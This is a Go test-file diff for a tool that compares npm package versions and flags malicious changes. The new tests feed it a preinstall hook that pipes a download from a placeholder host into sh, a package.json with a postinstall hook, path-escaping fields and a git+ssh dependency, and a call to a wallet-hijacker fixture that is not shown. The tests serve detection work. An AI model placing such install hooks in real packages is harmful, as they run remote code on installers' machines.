@@ -210,3 +210,54 @@ func TestJSONContract(t *testing.T) {
 		t.Errorf("SARIF lacks the diff's finding:\n%.2000s", buf.String())
 	}
 }
+
+func TestNewInstallScriptIsScannedAsShell(t *testing.T) {
+	clean := debugLike("4.4.1")
+	r := compareFiles(t, clean, with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
+  "scripts": {"preinstall": "curl -s https://dl.example/x.sh | sh"}`)))
+	if !r.Verdict.Flagged() {
+		t.Fatalf("verdict %s, want flagged", r.Verdict)
+	}
+	var shell bool
+	for _, f := range r.AddedFindings {
+		shell = shell || strings.Contains(f.Evidence, "scripts.preinstall: ")
+	}
+	if !shell {
+		t.Errorf("the preinstall command was not analysed: findings %+v", r.AddedFindings)
+	}
+}
+
+// FuzzCompare feeds two hostile archives through the whole comparison:
+// whatever the bytes, it returns a result or an error, never panics.
+func FuzzCompare(f *testing.F) {
+	dir := f.TempDir()
+	clean := debugLike("4.4.1")
+	oldTgz := readFile(f, npmTarball(f, dir, "a.tgz", clean))
+	newTgz := readFile(f, npmTarball(f, dir, "b.tgz", with(clean, "src/index.js", walletHijacker()+"\n"+clean["src/index.js"],
+		"package.json", `{"name":"x","scripts":{"postinstall":"node ./a.js"},"main":"../../etc","bin":{"x":"/abs"},"dependencies":{"a":"git+ssh://x"}}`)))
+	f.Add(oldTgz, newTgz)
+	f.Add(oldTgz, oldTgz[:len(oldTgz)/2])
+	f.Add([]byte("not an archive"), newTgz)
+	ctx := context.Background()
+	f.Fuzz(func(t *testing.T, a, b []byte) {
+		oldS, err := loadReader(ctx, "old.tgz", bytes.NewReader(a), int64(len(a)))
+		if err != nil {
+			return
+		}
+		newS, err := loadReader(ctx, "new.tgz", bytes.NewReader(b), int64(len(b)))
+		if err != nil {
+			return
+		}
+		r, err := compare(ctx, oldS, newS, Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if r.Verdict == "" {
+			t.Fatal("no verdict")
+		}
+		var buf bytes.Buffer
+		if err := WriteText(&buf, r); err != nil {
+			t.Fatal(err)
+		}
+	})
+}
